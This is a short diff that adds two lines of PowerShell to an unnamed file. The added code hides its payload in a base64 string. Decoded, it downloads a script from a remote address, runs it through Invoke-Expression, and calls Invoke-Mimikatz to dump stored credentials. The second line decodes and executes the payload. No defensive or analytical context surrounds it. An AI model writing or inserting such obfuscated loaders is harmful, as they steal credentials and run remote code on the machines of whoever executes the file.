@@ -1,0 +1,2 @@
+$s = 'JGMgPSBOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQ7ICRjLkRvd25sb2FkU3RyaW5nKCdodHRwOi8vMTAuMC4wLjEvYS5wczEnKSB8IElFWDsgSW52b2tlLU1pbWlrYXR6IC1EdW1wQ3JlZHMgIA=='
+IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($s)))
